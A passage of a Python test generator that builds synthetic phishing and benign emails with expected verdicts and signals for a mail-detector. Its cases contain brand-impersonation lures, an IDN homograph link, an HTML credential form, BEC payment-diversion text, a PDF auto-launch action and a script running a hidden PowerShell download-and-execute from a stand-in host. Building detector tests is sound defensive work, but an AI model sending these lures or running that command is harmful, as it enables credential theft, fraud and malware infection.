        auth("spf=pass smtp.mailfrom=xkrtvq-delivery.top;\n\tdkim=none;\n\t"
             "dmarc=none header.from=xkrtvq-delivery.top"),
        "Message-ID: <1711465407.52731@xkrtvq-delivery.top>",
        "Date: " + date,
        "From: DHL Express <notification@xkrtvq-delivery.top>",
        "To: %s" % VICTIM,
        "Subject: " + enc_word("\U0001F4E6 Your shipment is on hold: "
                               "customs fee \u20ac1.99 unpaid"),
    ]
    link = "https://bit.ly/3xQdH7k"
    html = (
        "<html><body>\n<table width=\"600\" style=\"border:1px solid #fc0\">"
        "<tr><td style=\"background:#fc0;padding:12px\"><b>DHL Express"
        "</b></td></tr>\n<tr><td style=\"padding:12px\">\n<p>Dear customer,"
        "</p>\n<p>Your parcel JD014600006281730427 arrived at our depot but "
        "could not be delivered: the customs fee of EUR 1.99 has not been "
        "paid.</p>\n<p>Pay the delivery fee within 48 hours to reschedule "
        "delivery, or the parcel will be returned to the sender.</p>\n<p>"
        "<a href=\"" + link + "\" style=\"background:#d40511;color:#fff;"
        "padding:10px 18px;text-decoration:none\">Pay EUR 1.99 now</a></p>"
        "\n<p>Thank you for shipping with DHL.</p>\n</td></tr></table>\n"
        "</body></html>\n")
    root = multipart("alternative", [
        text_part("Dear customer,\n\nYour parcel JD014600006281730427 could "
                  "not be delivered: the customs fee of EUR 1.99 has not "
                  "been paid.\nPay the delivery fee within 48 hours to "
                  "reschedule delivery: " + link + "\n\nDHL Express\n"),
        text_part(html, "html"),
    ], "----=_Part_52731_1180373641.1711465407")
    write_case("dhl_parcel_fee", mail(h, root), {"phishing": {
        "verdict": "phishing", "brand": "DHL", "with_phishing": True,
        "score_expanded": {"$contains": ["mail_body", "mail_from",
                                         "mail_subject"]},
        "signals": signals("brand_display_name", "shortener",
                           "suspicious_tld", "random_sender_domain",
                           "symbols_subject", "money_subject",
                           "links_elsewhere", "urgency",
                           "credential_request")}},
        "DHL customs-fee lure: display name DHL from xkrtvq-delivery.top "
        "(.top is an abused TLD; 'xkrtvq' has five consonants in a row), "
        "the only link goes through bit.ly (a shortener, not to the "
        "sender's domain), the subject has a parcel emoji and '\u20ac1.99', "
        "'within 48 hours', 'customs fee'/'delivery fee'/'reschedule "
        "delivery'. Subject 'shipment on hold' sets bit 6.")


def bank_idn_homograph():
    date = "Wed, 27 Mar 2024 02:41:19 +0000"
    host = "www." + "w\u0435llsfargo".encode("idna").decode() + ".com"
    h = inbound(("mta4.secure-notice.example", "mta4.secure-notice.example"),
                "203.0.113.77", date) + [
        auth("spf=pass smtp.mailfrom=secure-notice.example;\n\tdkim=pass "
             "header.d=secure-notice.example;\n\tdmarc=pass "
             "header.from=secure-notice.example"),
        "Message-ID: <a8c3e1f0.4b2d.11ee.9f3a@secure-notice.example>",
        "Date: " + date,
        "From: Wells Fargo Online <alerts@secure-notice.example>",
        "To: %s" % VICTIM,
        "Subject: Unusual sign-in activity on your account",
    ]
    link = "https://" + host + "/signon/verify?ref=WF-7731"
    html = (
        "<html><body style=\"font-family:Verdana,sans-serif\">\n<p>Dear "
        "Customer,</p>\n<p>We detected an unusual sign-in to Wells Fargo "
        "Online from a new device (Lagos, NG). For your security, online "
        "access has been temporarily locked.</p>\n<p>To restore access, "
        "sign in to <a href=\"" + link + "\">www.wellsfargo.com</a> and "
        "verify your identity.</p>\n<p>Wells Fargo Online Security</p>\n"
        "</body></html>\n")
    root = multipart("alternative", [
        text_part("Dear Customer,\n\nWe detected an unusual sign-in to "
                  "Wells Fargo Online from a new device. For your security, "
                  "online access has been temporarily locked.\n\nTo restore "
                  "access, sign in to " + link + " and verify your identity."
                  "\n\nWells Fargo Online Security\n"),
        text_part(html, "html"),
    ], "_000_SN6PR04MB4301A7C2E1F0B9D8_")
    write_case("bank_idn_homograph", mail(h, root), {"phishing": {
        "verdict": "phishing", "brand": "Wells Fargo",
        "signals": signals("mixed_script", "lookalike_domain",
                           "text_href_mismatch", "brand_display_name",
                           "urgency", "credential_request")}},
        "Bank lure with an IDN homograph: the link host " + host + " is "
        "'w\u0435llsfargo.com' with a Cyrillic U+0435 for the first 'e' "
        "(Latin and Cyrillic in one label: mixed_script; folded, its "
        "skeleton is Wells Fargo's label: lookalike_domain), shown as "
        "www.wellsfargo.com (text_href_mismatch).")


def html_attachment_page():
    date = "Thu, 28 Mar 2024 10:18:33 +0000"
    h = inbound(("smtp.northwind-traders.example", "smtp.northwind-traders."
                 "example"), "198.51.100.90", date) + [
        "Message-ID: <CAJ9x1Lk=Qm7pW2sT0v8b@mail.northwind-traders.example>",
        "Date: " + date,
        "From: Accounts Payable <ap@northwind-traders.example>",
        "To: %s" % VICTIM,
        "Subject: Remittance advice 0611 - payment sent",
    ]
    page = (
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>"
        "Secure document</title>\n<script src=\"https://cdn.docs-sign."
        "example.net/js/jquery.min.js\"></script></head>\n<body>\n<h3>"
        "Sign in to view the remittance advice</h3>\n<form method=\"post\" "
        "action=\"https://docs-sign.example.net/rem/submit.php\">\n<input "
        "type=\"email\" name=\"u\" value=\"" + VICTIM + "\">\n<input type="
        "\"password\" name=\"p\">\n<button type=\"submit\">View document"
        "</button>\n</form>\n</body></html>\n")
    root = multipart("mixed", [
        text_part("Hello,\n\nPlease find attached the remittance advice for "
                  "invoice 0611.\nThe document was sent through DocuSign: "
                  "open the attachment to review document and\nconfirm the "
                  "amount.\n\nBest regards,\nAccounts Payable\nNorthwind "
                  "Traders\n"),
        attachment(page.encode(), "text/html", "Remittance_Advice_0611.html"),
    ], "000000000000a1f2e3061467b9c8", preamble=False)
    write_case("html_attachment_credential_page", mail(h, root), {
        "phishing": {
            "verdict": "phishing", "brand": "DocuSign",
            "signals": signals("html_attachment_form",
                               "html_attachment_remote", "brand_body")}},
        "HTML attachment credential page: the .html attachment holds a "
        "<form> with a password field (html_attachment_form) and loads a "
        "remote script (html_attachment_remote). The body names DocuSign "
        "and asks to 'review document' while no link goes to DocuSign and "
        "neither display name nor subject names it (brand_body).")


def zip_pdf_exe():
    date = "Fri, 29 Mar 2024 08:07:52 +0000"
    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
                "198.51.100.133", date) + [
        "Message-ID: <000b01da81a4$3f5c2e10$be148a30$@example-freight.net>",
        "Date: " + date,
        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
        "To: %s" % VICTIM,
        "Subject: Invoice INV-88213 overdue",
        "X-Mailer: Microsoft Outlook 16.0",
    ]
    z = make_zip([("Invoice_INV-88213.pdf.exe", pe_file())])
    root = multipart("mixed", [
        text_part("Good morning,\n\nplease see the attached invoice "
                  "INV-88213, which is now 30 days overdue.\nKindly arrange "
                  "the payment this week.\n\nRegards,\nLisa Moreau\n"
                  "Accounts Receivable\n"),
        attachment(z, "application/x-zip-compressed", "INV-88213.zip"),
    ], "----=_NextPart_000_000C_01DA81A4.3F5C2E10", preamble=True)
    write_case("zip_pdf_exe", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "signals": signals("attachment_executable",
                           "attachment_double_extension")}},
        "Malware lure: a ZIP holding Invoice_INV-88213.pdf.exe, a PE "
        "program (MZ and PE headers) named as a PDF.")


def encrypted_zip_password():
    date = "Fri, 29 Mar 2024 12:44:05 +0000"
    js = (b"var s = WScript.CreateObject(\"WScript.Shell\");\r\n"
          b"s.Run(\"powershell -w hidden -c iwr https://cdn.example.net/p.ps1"
          b" | iex\", 0);\r\n")
    z = make_zip_encrypted([("Payment_Details_0329.js", js)], "7731")
    if z is None:
        print("skip encrypted_zip_password: zip is missing", file=sys.stderr)
        return
    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
                "198.51.100.133", date) + [
        "Message-ID: <000c01da81c9$0a1b2c3d$1e2f3a4b$@example-freight.net>",
        "Date: " + date,
        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
        "To: %s" % VICTIM,
        "Subject: URGENT: payment details for overdue invoice",
        "X-Mailer: Microsoft Outlook 16.0",
    ]
    root = multipart("mixed", [
        text_part("Hello,\n\nas discussed, the payment details are in the "
                  "attached archive.\nFor security reasons the file is "
                  "protected. Password: 7731\n\nPlease process it "
                  "immediately.\n\nLisa Moreau\n"),
        attachment(z, "application/x-zip-compressed", "Payment_0329.zip"),
    ], "----=_NextPart_000_000D_01DA81C9.0A1B2C3D", preamble=True)
    write_case("encrypted_zip_password", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "signals": signals("attachment_encrypted")}},
        "An encrypted ZIP (ZipCrypto, made by Info-ZIP zip -P) with its "
        "password in the body: scanners cannot open it, the reader can. "
        "It holds a .js file (a script run by Windows Script Host).")


# ---- 2. detector signals ----------------------------------------------------

def signal_link_tricks():
    date = "Mon, 01 Apr 2024 07:30:11 +0000"
    h = inbound(("srv1.example-hosting.net", "srv1.example-hosting.net"),
                "198.51.100.66", date) + [
        auth("spf=fail (example.com: 198.51.100.66 is not permitted)\n\t"
             "smtp.mailfrom=example.com;\n\tdkim=none;\n\tdmarc=fail "
             "(p=QUARANTINE) header.from=example.com"),
        "Message-ID: <20240401073011.8812.qwe@example.com>",
        "Date: " + date,
        "From: Mail Administrator <postmaster@example.com>",
        "To: %s" % VICTIM,
        "Subject: Your mailbox is almost full (98%)",
    ]
    report = base64.b64encode(b"<html><body><p>Quota report</p><form "
                              b"action=\"https://q.example.net/\"></form>"
                              b"</body></html>").decode()
    html = (
        "<html><body style=\"font-family:Tahoma,sans-serif\">\n<p>Dear "
        "user,</p>\n<p>Your mailbox has used 49.1 GB of 50 GB. New "
        "messages are held on the server until you free space or upgrade "
        "your storage. Held messages are deleted after 3 days.</p>\n<ul>\n"
        "<li><a href=\"https://www.google.com/url?q=https://mailbox-"
        "upgrade.example.net/owa/&amp;sa=D\">Upgrade storage</a></li>\n"
        "<li><a href=\"http://198.51.100.77/owa/release.php?u=jane.doe\">"
        "Release held messages</a></li>\n<li><a href=\"https://office365."
        "com.quota-check.example/report\">Quota report</a></li>\n<li><a "
        "href=\"https://mailbox-cleanup.web.app/\">Clean up old mail</a>"
        "</li>\n<li><a href=\"https://webmail-settings.xyz/prefs\">"
        "Settings</a></li>\n<li><a href=\"data:text/html;base64," + report +
        "\">Download the quota report</a></li>\n</ul>\n<p>Mail "
        "Administrator<br>example.com</p>\n</body></html>\n")
    root = multipart("alternative", [
        text_part("Dear user,\n\nYour mailbox has used 49.1 GB of 50 GB. "
                  "New messages are held on the server until you free "
                  "space or upgrade your storage.\n\nMail Administrator\n"),
        text_part(html, "html"),
    ], "=_6c1f0a3e9b2d4c8a7f5e1d0c9b8a7f6e")
    write_case("signal_link_tricks", mail(h, root), {"phishing": {
        "verdict": "phishing", "brand": "Webmail",
        "signals": signals("redirect", "ip_host_link", "brand_in_subdomain",
                           "free_hosting_link", "suspicious_tld", "data_uri",
                           "brand_display_name", "links_elsewhere")}},
        "Mailbox-quota lure with one link per trick: a Google redirect "
        "carrying another URL in its query (redirect), a link to an IP "
        "address (ip_host_link), office365.com as a subdomain of quota-"
        "check.example (brand_in_subdomain), a web.app page (free_hosting_"
        "link), a .xyz host (suspicious_tld), a data: URI (data_uri). "
        "'Mail Administrator' is a Webmail keyword line in the display "
        "name (brand_display_name); no link goes to example.com, the "
        "sender's domain (links_elsewhere).")


def signal_prize_free_mail():
    date = "Tue, 02 Apr 2024 19:22:48 +0000"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "2B7E9C0512", VICTIM, date),
        ("mail-sor-f41.google.com", "mail-sor-f41.google.com",
         "209.85.220.41", "mx1.example.com (Postfix)", "ESMTPS",
         "4V8Jk25rTz1xq", VICTIM, date),
    ]) + [
        auth("spf=pass smtp.mailfrom=gmail.com;\n\tdkim=pass "
             "header.d=gmail.com;\n\tdmarc=pass header.from=gmail.com"),
        "Message-ID: <CAH7Bq3n+2vXy0Lm5kJ9pQ@mail.gmail.com>",
        "Date: " + date,
        "From: Rewards Desk <rewards.desk.2024@gmail.com>",
        "To: undisclosed-recipients:;",
        "Subject: " + enc_word("\U0001F381 Congratulations! Your $500 "
                               "Amazon gift card expires today"),
    ]
    html = ("<div dir=\"ltr\"><p>Congratulations! You have been selected."
            "</p><p><a href=\"https://rewards-claim.example.net/a/7731\">"
            "Claim your reward now</a></p></div>\n")
    root = multipart("alternative", [
        text_part("Congratulations! You have been selected.\n\nClaim your "
                  "reward now: https://rewards-claim.example.net/a/7731\n"),
        text_part(html, "html"),
    ], "000000000000f3c2b10614a8d7e5")
    write_case("signal_prize_free_mail", mail(h, root), {"phishing": {
        "verdict": "phishing",
        "signals": signals("brand_subject", "free_mail_brand", "lure",
                           "money_subject", "symbols_subject",
                           "thin_html_body", "links_elsewhere",
                           "single_call_to_action", "urgency",
                           "unverified_lure")}},
        "Gift-card prize lure from a Gmail address: the subject names "
        "Amazon with pressure ('expires today') while the sender is not "
        "Amazon (brand_subject) and is on free mail (free_mail_brand); "
        "'congratulations', 'you have been selected', 'claim your', 'gift "
        "card' (lure, 3 counted); '$500' (money_subject), a gift emoji "
        "(symbols_subject); an HTML body of a line or two around its link "
        "(thin_html_body), which does not go to gmail.com (links_"
        "elsewhere): one link host, no List-Unsubscribe field (single_call_"
        "to_action); bait words from a free mailbox (unverified_lure). The "
        "receiver's checks pass: no auth_fail.")


def signal_bec_headers():
    date = "Wed, 03 Apr 2024 11:09:57 +0000"
    h = inbound(("mx7k2q9z.example", "unknown"), "198.51.100.150",
                date) + [
        auth("spf=none smtp.mailfrom=mx7k2q9z.example;\n\tdkim=none;\n\t"
             "dmarc=none header.from=mx7k2q9z.example"),
        "Message-ID: <7731.1712142597@mx7k2q9z.example>",
        "Date: " + date,
        "From: \"accounts@northwind-traders.com\" "
        "<noreply@mx7k2q9z.example>",
        "Reply-To: northwind.accounts@outlook.com",
        "To: %s" % VICTIM,
        "Subject: Updated remittance details",
    ]
    body = text_part(
        "Hello " + VICTIM + ",\n\nPlease note that our remittance details "
        "have changed. All open invoices\nshould be paid to the new account "
        "from today. Reply to this message to\nreceive the new details.\n\n"
        "Kind regards,\nAccounts Department\n", cte="7bit")
    write_case("signal_bec_headers", mail(h, body), {"phishing": {
        "verdict": "phishing",
        "signals": signals("display_name_address", "reply_to_free_mail",
                           "recipient_in_text", "random_sender_domain")}},
        "Payment-diversion (BEC) mail: the display name is an address at "
        "northwind-traders.com while the mail is from mx7k2q9z.example "
        "(display_name_address; that label mixes letters and digits: "
        "random_sender_domain), replies go to outlook.com, a free mail "
        "provider, while the sender is not on one (reply_to_free_mail), "
        "and the greeting is the recipient's address (recipient_in_text).")


def signal_obfuscated_sender():
    date = "Thu, 04 Apr 2024 04:51:30 +0000"
    h = inbound(("host-203-0-113-9.example.net", "unknown"), "203.0.113.9",
                date) + [
        "Message-ID: <d41d8cd98f00b204e9800998ecf8427e@account-center>",
        "Date: " + date,
        "From: " + enc_word("\U0001F514 Account Service") +
        " <service@account-center>",
        "To: %s" % VICTIM,
        # Cyrillic о (U+043E), а (U+0430), с (U+0441), е (U+0435) in Latin
        # words
        "Subject: " + enc_word("Y\u043eur \u0430\u0441\u0441\u043eunt "
                               "h\u0430s b\u0435\u0435n susp\u0435nd\u0435d"),
    ]
    body = text_part(
        "Dear user,\n\nWe could not confirm your details. Reply with your "
        "full name and phone number\nto restore access.\n\nAccount "
        "Service\n", cte="7bit")
    write_case("signal_obfuscated_sender", mail(h, body), {"phishing": {
        "verdict": "phishing",
        "signals": signals("obfuscated_text", "symbols_display_name",
                           "invalid_sender")}},
        "Filter evasion in the headers: the subject 'Your account has been "
        "suspended' is written with Cyrillic о, а, с and е inside Latin "
        "words (obfuscated_text), the display name starts with a bell "
        "emoji (symbols_display_name) and the From address's domain "
        "'account-center' has no dot (invalid_sender).")


def signal_macro_invoice():
    date = "Fri, 05 Apr 2024 09:14:26 +0000"
    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
                "198.51.100.133", date) + [
        "Message-ID: <000e01da8737$5d6e7f80$18293a4b$@example-freight.net>",
        "Date: " + date,
        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
        "To: %s" % VICTIM,
        "Subject: Invoice INV-88240",
        "X-Mailer: Microsoft Outlook 16.0",
    ]
    root = multipart("mixed", [
        text_part("Hello,\n\nplease find invoice INV-88240 attached. If the "
                  "document does not display,\nclick Enable Content at the "
                  "top of the page.\n\nLisa Moreau\n"),
        attachment(docm_file(), "application/vnd.ms-word.document."
                   "macroEnabled.12", "INV-88240.docm"),
    ], "----=_NextPart_000_000F_01DA8737.5D6E7F80", preamble=True)
    write_case("signal_macro_invoice", mail(h, root), {"phishing": {
        "signals": signals("attachment_macro")}},
        "A Word document with macros: the .docm package holds "
        "word/vbaProject.bin.")


def signal_pdf_javascript():
    date = "Fri, 05 Apr 2024 13:40:09 +0000"
    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
                "198.51.100.133", date) + [
        "Message-ID: <001001da875c$1a2b3c4d$5e6f7a8b$@example-freight.net>",
        "Date: " + date,
        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
        "To: %s" % VICTIM,
        "Subject: Statement of account, March",
        "X-Mailer: Microsoft Outlook 16.0",
    ]
    doc = pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"] +
              pdf_page("Statement of account")[1:] +
              ["<< /Type /Action /S /JavaScript /JS (app.alert\\('Loading"
               "...'\\); this.exportDataObject\\({cName: 'a', nLaunch: 2}"
               "\\);) >>"])
    root = multipart("mixed", [
        text_part("Hello,\n\nyour statement of account for March is "
                  "attached.\n\nLisa Moreau\n"),
        attachment(doc, "application/pdf", "Statement_March.pdf"),
    ], "----=_NextPart_000_0011_01DA875C.1A2B3C4D", preamble=True)
    write_case("signal_pdf_javascript", mail(h, root), {"phishing": {
        "signals": signals("attachment_pdf_action")}},
        "A PDF whose /OpenAction runs JavaScript (/S /JavaScript /JS).")


def signal_disk_image():
    date = "Mon, 08 Apr 2024 08:55:40 +0000"
    h = inbound(("mail.example-freight.net", "mail.example-freight.net"),
                "198.51.100.133", date) + [
        "Message-ID: <001201da8990$2b3c4d5e$6f7a8b9c$@example-freight.net>",
        "Date: " + date,
        "From: Lisa Moreau <lisa.moreau@example-freight.net>",
        "To: %s" % VICTIM,
        "Subject: Purchase order 4471 - documents",
        "X-Mailer: Microsoft Outlook 16.0",
    ]
    root = multipart("mixed", [
        text_part("Hello,\n\nthe documents for order 4471 are attached.\n\n"
                  "Lisa Moreau\n"),
        attachment(vhd_file(), "application/octet-stream",
                   "Order_4471_documents.vhd"),
    ], "----=_NextPart_000_0013_01DA8990.2B3C4D5E", preamble=True)
    write_case("signal_disk_image", mail(h, root), {"phishing": {
        "signals": signals("attachment_disk_image")}},
        "A VHD disk image (footer cookie 'conectix' in the last 512 "
        "bytes): mounted by a double click, it hides its files from "
        "Mark-of-the-Web.")


# ---- 3. benign mails --------------------------------------------------------

def benign_retail_newsletter():
    date = "Thu, 11 Apr 2024 14:00:07 +0000"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "3C8F0D0613", VICTIM, date),
        ("mta-118.em.walmart.com", "mta-118.em.walmart.com", "203.0.113.118",
         "mx1.example.com (Postfix)", "ESMTPS", "4VFk0x3Wq9z2", VICTIM, date),
    ]) + [
        auth("spf=pass smtp.mailfrom=em.walmart.com;\n\tdkim=pass "
             "header.d=walmart.com;\n\tdmarc=pass header.from=walmart.com"),
        "Message-ID: <0.1.2A.F3C.1DA8C1B4E7A9F20.0@mta-118.em.walmart.com>",
        "Date: " + date,
        "From: Walmart <help@walmart.com>",
        "Reply-To: Walmart <help@walmart.com>",
        "To: %s" % VICTIM,
        "Subject: Spring savings are here: patio, grills & more",
        "List-Unsubscribe: <https://www.walmart.com/account/"
        "communications?u=ab12cd34>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "Precedence: bulk",
    ]
    img = "https://i5.walmartimages.com/asr/"
    items = [("Patio sets", "patio-garden/5428957"),
             ("Gas grills", "grills-outdoor-cooking/4089_91416"),
             ("Garden tools", "gardening-tools/5428_1024"),
             ("Kids' bikes", "kids-bikes/4125_1081404"),
             ("Outdoor lights", "outdoor-lighting/5428_1022")]
    cells = "".join(
        "<td align=\"center\" style=\"padding:8px\"><a href=\"https://www."
        "walmart.com/cp/%s?utm_source=email&amp;utm_campaign=spring24\">"
        "<img src=\"%s%d.jpeg\" width=\"120\" alt=\"%s\"><br>%s</a></td>\n"
        % (path, img, i, name, name) for i, (name, path) in enumerate(items))
    html = (
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Spring "
        "savings</title></head><body style=\"margin:0;background:#f2f8fd\">"
        "\n<table width=\"640\" align=\"center\" cellpadding=\"0\" "
        "cellspacing=\"0\" style=\"background:#fff\">\n<tr><td><a href=\""
        "https://www.walmart.com/?utm_source=email\"><img src=\"" + img +
        "logo.png\" width=\"160\" alt=\"Walmart\"></a></td></tr>\n<tr><td "
        "style=\"padding:16px;font-family:Arial,sans-serif\">\n<h1>Spring "
        "savings are here</h1>\n<p>Get your backyard ready for warmer days. "
        "Patio sets, grills, garden tools and more, with new deals every "
        "week and free pickup at your local store.</p>\n<p><a href=\"https://"
        "www.walmart.com/shop/deals/spring?utm_source=email\">Click here to "
        "shop all spring deals</a></p>\n</td></tr>\n<tr>" + cells + "</tr>\n"
        "<tr><td style=\"padding:16px;font-family:Arial,sans-serif;font-size:"
        "12px;color:#666\">\n<p>Prices and availability may vary online and "
        "in stores. You are receiving this mail because you signed up for "
        "emails from us. <a href=\"https://www.walmart.com/account/"
        "communications?u=ab12cd34\">Unsubscribe</a> or <a href=\"https://"
        "www.walmart.com/help\">contact us</a>.</p>\n<p>Walmart, 702 SW 8th "
        "St, Bentonville, AR 72716</p>\n</td></tr></table>\n</body></html>\n")
    root = multipart("alternative", [
        text_part("Spring savings are here\n\nGet your backyard ready for "
                  "warmer days. Patio sets, grills, garden tools and more, "
                  "with new deals every week.\n\nShop all spring deals: "
                  "https://www.walmart.com/shop/deals/spring\n\nUnsubscribe: "
                  "https://www.walmart.com/account/communications?u=ab12cd34"
                  "\n"),
        text_part(html, "html"),
    ], "----=_Part_1188213_991278342.1712844007")
    write_case("benign_retail_newsletter", mail(h, root), {"phishing": {
        "verdict": "clean",
        "signals": no_signals("brand_display_name", "links_elsewhere",
                              "single_call_to_action",
                              "thin_html_body", "lookalike_domain",
                              "text_href_mismatch")}},
        "A retailer's newsletter from its own domain (walmart.com, DMARC "
        "pass): many links and images, 'click here', all links to "
        "walmart.com, images from its CDN. The brand is the sender, so no "
        "brand signal; links go to the sender's domain.")


def benign_paypal_receipt():
    date = "Fri, 12 Apr 2024 17:26:54 -0700"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "4D9A1E0714", VICTIM,
         "Sat, 13 Apr 2024 00:26:56 +0000"),
        ("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.228",
         "mx1.example.com (Postfix)", "ESMTPS", "4VGbN01pZ3z3", VICTIM,
         "Sat, 13 Apr 2024 00:26:56 +0000"),
    ]) + [
        auth("spf=pass smtp.mailfrom=paypal.com;\n\tdkim=pass "
             "header.d=paypal.com;\n\tdmarc=pass header.from=paypal.com"),
        "Message-ID: <8f2e1d0c-9b8a-4f7e-a6d5-c4b3a2f1e0d9@paypal.com>",
        "Date: " + date,
        "From: \"service@paypal.com\" <service@paypal.com>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Receipt for your payment to Northwind Books",
    ]
    html = (
        "<html><body style=\"font-family:Helvetica,Arial,sans-serif\">\n"
        "<table width=\"600\" align=\"center\"><tr><td>\n<img src=\"https://"
        "www.paypalobjects.com/digitalassets/c/system-triggered-email/n/"
        "layout/images/paypal-rebranding/pp-logo.png\" alt=\"PayPal\" "
        "width=\"100\">\n<p>Hello, Jane Doe</p>\n<p>You sent a payment of "
        "$24.99 USD to Northwind Books.</p>\n<p>It may take a few moments "
        "for this transaction to appear in your account.</p>\n<table>\n<tr>"
        "<td>Transaction ID</td><td><a href=\"https://www.paypal.com/myaccount"
        "/transaction/details/6JX81234AB5678901\">6JX81234AB5678901</a></td>"
        "</tr>\n<tr><td>Transaction date</td><td>April 12, 2024</td></tr>\n"
        "<tr><td>Order</td><td>2 paperbacks</td></tr>\n<tr><td>Total</td><td>"
        "$24.99 USD</td></tr>\n</table>\n<p>Questions? Go to the <a href=\""
        "https://www.paypal.com/us/cshelp/personal\">Help Center</a>.</p>\n"
        "<p style=\"font-size:11px;color:#687173\">Please do not reply to "
        "this email. We are unable to respond to inquiries sent to this "
        "address. Copyright \u00a9 1999-2024 PayPal, Inc. All rights "
        "reserved. PayPal is located at 2211 N. First St., San Jose, CA "
        "95131.</p>\n</td></tr></table>\n</body></html>\n")
    root = multipart("alternative", [
        text_part("Hello, Jane Doe\n\nYou sent a payment of $24.99 USD to "
                  "Northwind Books.\n\nTransaction ID: 6JX81234AB5678901\n"
                  "https://www.paypal.com/myaccount/transaction/details/"
                  "6JX81234AB5678901\n\nCopyright \u00a9 1999-2024 PayPal, "
                  "Inc. All rights reserved.\n"),
        text_part(html, "html"),
    ], "--_NmP-8c2b1f0e9d8a7c6b-Part_1")
    write_case("benign_paypal_receipt", mail(h, root), {"phishing": {
        "verdict": "clean",
        "signals": no_signals("brand_display_name", "brand_body",
                              "display_name_address", "links_elsewhere",
                              "lookalike_domain")}},
        "A PayPal receipt from paypal.com (DMARC pass), linking to "
        "paypal.com, logo from paypalobjects.com (PayPal's). Its display "
        "name is its own address, at the sender's domain: no display_name_"
        "address.")


def benign_mailing_list():
    date = "Sat, 13 Apr 2024 09:41:17 +0200"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "5E0B2F0815", VICTIM,
         "Sat, 13 Apr 2024 07:41:20 +0000"),
        ("lists.example.org", "lists.example.org", "198.51.100.5",
         "mx1.example.com (Postfix)", "ESMTPS", "4VGqQ83Lmz1x", VICTIM,
         "Sat, 13 Apr 2024 07:41:20 +0000"),
        ("mail.example.net", "mail.example.net", "203.0.113.21",
         "lists.example.org (Postfix)", "ESMTPS", "9C1A53E0F2", None,
         "Sat, 13 Apr 2024 07:41:18 +0000"),
    ]) + [
        "Message-ID: <87wmp3k2qz.fsf@example.net>",
        "Date: " + date,
        "From: Karl Lindqvist <karl@example.net>",
        "To: users@lists.example.org",
        "Subject: [mailscope-users] Re: analyzing mbox archives",
        "In-Reply-To: <b7e2c1d0-1f2e-4a3b-9c8d-7e6f5a4b3c2d@example.com>",
        "References: <b7e2c1d0-1f2e-4a3b-9c8d-7e6f5a4b3c2d@example.com>",
        "Reply-To: users@lists.example.org",
        "List-Id: mailscope users <users.lists.example.org>",
        "List-Post: <mailto:users@lists.example.org>",
        "List-Help: <mailto:users-request@lists.example.org?subject=help>",
        "List-Unsubscribe: <https://lists.example.org/mailman/options/users>,"
        "\n <mailto:users-request@lists.example.org?subject=unsubscribe>",
        "List-Archive: <https://lists.example.org/archives/users/>",
        "Precedence: list",
        "Sender: \"users\" <users-bounces@lists.example.org>",
        "Errors-To: users-bounces@lists.example.org",
    ]
    body = text_part(
        "Jane Doe <" + VICTIM + "> writes:\n\n> Is there a way to run it "
        "over a whole mbox file?\n\nSplit it first, e.g. with formail:\n\n"
        "  formail -ds sh -c 'cat > msg.$FILENO' < archive.mbox\n\nthen run "
        "the binary over the files. The wiki has a longer example:\n"
        "https://wiki.example.org/mailscope/BatchRuns\n\nKarl\n"
        "_______________________________________________\nusers mailing "
        "list\nusers@lists.example.org\n"
        "https://lists.example.org/mailman/listinfo/users\n", cte="7bit")
    write_case("benign_mailing_list", mail(h, body), {"phishing": {
        "verdict": "clean",
        "signals": no_signals("reply_to_mismatch", "links_elsewhere",
                              "recipient_in_text")}},
        "A mailing-list post (Mailman): From a member at example.net, "
        "Reply-To the list at example.org, links elsewhere. List-Id and "
        "List-Post make it a list post, so neither reply_to_mismatch nor "
        "links_elsewhere applies; the quoted attribution line names an "
        "address but greets no one.")


def benign_person_to_person():
    date = "Sun, 14 Apr 2024 20:13:44 +0200"
    h = received([
        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
         "mbox1.example.com (Postfix)", "ESMTPS", "6F1C3A0916", VICTIM,
         "Sun, 14 Apr 2024 18:13:47 +0000"),
        ("mail.example.org", "mail.example.org", "198.51.100.14",
         "mx1.example.com (Postfix)", "ESMTPS", "4VHTd54kqz1y", VICTIM,
         "Sun, 14 Apr 2024 18:13:47 +0000"),
        ("[192.168.1.23]", "p5b0c1d2e.dip0.example.org", "198.51.100.201",
         "mail.example.org (Postfix)", "ESMTPSA", "A2B4C6D8E0", None,
         "Sun, 14 Apr 2024 18:13:45 +0000"),
    ]) + [
        auth("spf=pass smtp.mailfrom=example.org;\n\tdkim=pass "
             "header.d=example.org;\n\tdmarc=pass header.from=example.org"),
        "Message-ID: <3e9a7c1b-5d2f-4e8a-b6c0-1f2e3d4c5b6a@example.org>",
        "Date: " + date,
        "From: Mark Jensen <mark.jensen@example.org>",
        "To: Jane Doe <%s>" % VICTIM,
        "Subject: Hiking on Saturday?",
        "User-Agent: Mozilla Thunderbird",
    ]
    body = text_part(
        "Hi Jane,\n\nthe weather looks good for Saturday. Shall we do the "
        "ridge trail again?\nWe could meet at the car park at 9 and be back "
        "by 3. Tom might join us.\n\nLet me know,\nMark\n", cte="7bit")
    write_case("benign_person_to_person", mail(h, body), {"phishing": {
        "verdict": "clean", "risk": 0, "signals": [], "score": 0}},
        "A plain mail between two people: nothing to find, risk 0, no "
